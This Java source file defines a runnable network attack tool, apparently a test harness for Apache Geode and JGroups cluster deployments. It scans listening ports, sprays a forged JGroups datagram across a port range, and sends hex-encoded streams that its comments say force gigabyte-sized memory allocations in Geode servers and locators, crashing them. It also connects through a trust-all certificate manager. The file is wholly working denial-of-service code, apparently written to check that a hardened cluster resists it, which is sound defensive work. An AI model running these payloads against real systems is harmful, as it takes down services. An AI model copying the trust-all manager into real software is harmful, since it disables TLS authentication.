package io.millrace.compose;

import java.io.FileInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.net.ssl.KeyManager;
import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * An attacker on a network. It needs the JDK only, so it runs in any container with a JVM:
 *
 * <pre>
 * ports                     prints the TCP ports that are open in its own network namespace
 * datagrams HOST...         sends a forged datagram to each port that a member may have
 * connect KEYS HOST:PORT... prints whether each is accepted, refused, or unreachable
 * send KEYS HOST:PORT...    sends what once ended a locator or a server, and prints whether each connection ended
 * </pre>
 *
 * KEYS is a PKCS #12 file with a certificate and its key, {@value #NO_CERTIFICATE} for TLS without one, or
 * {@value #PLAIN} for no TLS.
 */
final class NetworkAttack {

    static final String PLAIN = "plain";
    static final String NO_CERTIFICATE = "none";
    static final String PASSWORD = "password";

    /** To the port of the membership. JGroups would allocate 2 GB. */
    private static final byte[] DATAGRAM = HexFormat.of().parseHex("198e00040000000077359400");

    /** To a server, and to a locator. Geode would allocate 1 GB. */
    private static final List<byte[]> STREAMS = List.of(
            HexFormat.of().parseHex("64ff00963b000027102efd3b9aca00"),
            HexFormat.of().parseHex("000003ea00962efd3b9aca00"));

    /** What a session has after a handshake that the other side did not complete, which the JDK does not report. */
    private static final String NO_CIPHER = "SSL_NULL_WITH_NULL_NULL";

    /** The local address and the port of a socket in the state LISTEN. */
    private static final Pattern LISTENING = Pattern.compile(": (\\w+):(\\w{4}) \\w+:0000 0A ");

    private static final int FIRST_MEMBER_PORT = 41_000;
    private static final int LAST_MEMBER_PORT = 61_000;
    private static final int CONNECT_MS = 2_000;
    private static final int END_MS = 20_000;

    private NetworkAttack() {}

    public static void main(String[] args) throws Exception {
        List<String> targets = List.of(args).subList(1, args.length);
        List<String> lines = switch (args[0]) {
            case "ports" -> ports();
            case "datagrams" -> datagrams(targets);
            case "connect" -> connect(args[1], targets.subList(1, targets.size()));
            case "send" -> send(args[1], targets.subList(1, targets.size()));
            default -> throw new IllegalArgumentException(args[0]);
        };
        lines.forEach(System.out::println);
    }

    /** Returns the ports of this network namespace on which something listens, except on loopback addresses. */
    private static List<String> ports() throws IOException {
        List<String> ports = new ArrayList<>();
        for (String file : List.of("tcp", "tcp6")) {
            for (String line : Files.readAllLines(Path.of("/proc/net", file))) {
                Matcher listening = LISTENING.matcher(line);
                if (listening.find() && !listening.group(1).matches("\\w*7F|0{24}01000000")) {
                    ports.add(Integer.toString(Integer.parseInt(listening.group(2), 16)));
                }
            }
        }
        return ports;
    }

    static List<String> datagrams(List<String> hosts) throws IOException {
        try (DatagramSocket socket = new DatagramSocket()) {
            for (String host : hosts) {
                InetAddress address = InetAddress.getByName(host);
                for (int port = FIRST_MEMBER_PORT; port <= LAST_MEMBER_PORT; port++) {
                    socket.send(new DatagramPacket(DATAGRAM, DATAGRAM.length, address, port));
                }
            }
        }
        return List.of("sent");
    }

    static List<String> connect(String keys, List<String> targets) throws Exception {
        return attack(targets, (host, port) -> List.of(() -> connect(keys, host, port)));
    }

    static List<String> send(String keys, List<String> targets) throws Exception {
        return send(keys, targets, STREAMS);
    }

    /** Sends each of these on a connection of its own. */
    static List<String> send(String keys, List<String> targets, List<byte[]> streams) throws Exception {
        return attack(
                targets,
                (host, port) -> streams.stream()
                        .<Callable<String>>map(stream -> () -> send(keys, host, port, stream))
                        .toList());
    }

    private interface Attacks {
        List<Callable<String>> on(String host, int port);
    }

    private static List<String> attack(List<String> targets, Attacks attacks) throws Exception {
        List<Callable<String>> all = new ArrayList<>();
        for (String target : targets) {
            String host = target.substring(0, target.lastIndexOf(':'));
            int port = Integer.parseInt(target.substring(host.length() + 1));
            attacks.on(host, port).forEach(attack -> all.add(() -> target + " " + attack.call()));
        }
        try (ExecutorService executor = Executors.newVirtualThreadPerTaskExecutor()) {
            return results(executor, all);
        }
    }

    private static List<String> results(ExecutorService executor, List<Callable<String>> tasks) throws Exception {
        List<String> results = new ArrayList<>();
        for (Future<String> future : executor.invokeAll(tasks)) {
            results.add(future.get());
        }
        return results;
    }

    private static String connect(String keys, String host, int port) throws Exception {
        Socket plain;
        try {
            plain = open(host, port);
        } catch (IOException _) {
            return "unreachable";
        }
        try (plain) {
            if (!keys.equals(PLAIN)) {
                encrypt(keys, plain, host, port);
            }
            return "accepted";
        } catch (IOException e) {
            return "refused: " + e;
        }
    }

    private static String send(String keys, String host, int port, byte[] stream) throws Exception {
        try (Socket plain = open(host, port)) {
            Socket socket = keys.equals(PLAIN) ? plain : encrypt(keys, plain, host, port);
            socket.getOutputStream().write(stream);
            int read;
            do {
                read = socket.getInputStream().read();
            } while (read >= 0);
            return "ended";
        } catch (SocketTimeoutException _) {
            return "open";
        } catch (IOException e) {
            return "ended: " + e;
        }
    }

    private static Socket open(String host, int port) throws IOException {
        Socket socket = new Socket();
        try {
            socket.connect(new InetSocketAddress(host, port), CONNECT_MS);
            socket.setSoTimeout(END_MS);
            return socket;
        } catch (IOException e) {
            socket.close();
            throw e;
        }
    }

    private static Socket encrypt(String keys, Socket plain, String host, int port) throws Exception {
        KeyManager[] own = {};
        if (!keys.equals(NO_CERTIFICATE)) {
            KeyStore store = KeyStore.getInstance("PKCS12");
            try (InputStream in = new FileInputStream(keys)) {
                store.load(in, PASSWORD.toCharArray());
            }
            KeyManagerFactory factory = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
            factory.init(store, PASSWORD.toCharArray());
            own = factory.getKeyManagers();
        }
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(own, new TrustManager[] {new Careless()}, null);
        SSLSocket socket = (SSLSocket) context.getSocketFactory().createSocket(plain, host, port, true);
        // With TLS 1.3, a client's handshake is complete before the server has read its certificate.
        socket.setEnabledProtocols(new String[] {"TLSv1.2"});
        socket.startHandshake();
        if (socket.getSession().getCipherSuite().equals(NO_CIPHER)) {
            throw new IOException("The server closed the connection during the handshake.");
        }
        return socket;
    }

    /** An attacker does not mind whom it is connected to. */
    private static final class Careless implements X509TrustManager {

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
